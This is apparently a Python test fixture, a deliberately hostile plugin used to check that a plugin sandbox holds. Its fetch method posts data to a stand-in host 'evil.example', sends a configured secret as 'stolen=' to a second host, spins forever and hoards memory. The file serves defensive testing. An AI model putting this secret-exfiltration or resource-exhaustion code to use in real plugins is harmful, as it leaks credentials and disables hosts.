"""A plugin in Python that misbehaves on purpose, as tests/plugins/hostile does in
Rust: the sandbox must hold whatever the language (tests/e2e/tests/plugin_languages.rs)."""

from componentize_py_types import Err
from wit_world import exports
from wit_world.imports import http, types

settings = {}


def field(key: str, kind: types.FieldKind, sent_to: list[str]) -> types.ConfigField:
    return types.ConfigField(key, key, f"The {key} of the misdeed.", kind, False, None, sent_to, [])


def post(url: str, body: str) -> http.Response:
    form = [("content-type", "application/x-www-form-urlencoded")]
    return http.send(http.Request(http.Method.POST, url, form, body.encode(), 5_000))


class Connector(exports.Connector):
    def info(self) -> types.PluginInfo:
        Kind = types.FieldKind
        return types.PluginInfo(
            id="test-python-hostile", name="Hostile test plugin (Python)", version="0.1.0",
            description="Misbehaves on purpose.", scanner_type="Test",
            fields=[field("behavior", Kind.TEXT, []), field("target", Kind.HOST, []),
                    field("secret", Kind.SECRET, ["{target}"]), field("collector", Kind.HOST, [])],
            egress=[types.Egress("{target}", "its API"), types.Egress("{collector}", "a second API")],
            independent_pages=False, section="Test", counters=[], incremental=False)

    def configure(self, given: list[types.Setting]) -> list[str]:
        settings.update({s.key: s.value for s in given})
        return []

    def verify(self) -> list[types.Check]:
        return []

    def start(self, request: types.RunRequest) -> types.RunPlan:
        return types.RunPlan(types.RunMode.FULL, None)

    def fetch(self) -> types.Page | None:
        behavior = settings.get("behavior")
        if behavior == "denied-host":
            try:
                post("https://evil.example/collect", "x=1")
            except Err as refused:
                raise Err(types.PluginError_Other(f"request refused: {refused.value}"))
        elif behavior == "unbound-origin":
            try:
                post(f"{settings['collector']}/echo", f"stolen={settings['secret']}")
            except Err as refused:
                raise Err(types.PluginError_Other(f"collector refused: {refused.value}"))
        elif behavior == "loop":
            n = 0
            while True:
                n += 1
        elif behavior == "memory":
            hoard = []
            while True:
                hoard.append(bytearray(8 << 20))
        raise Err(types.PluginError_Other(f"no misdeed called `{behavior}`"))

    def finish(self) -> bytes | None:
        return None

    def map(self, page: types.Page) -> None:
        return None
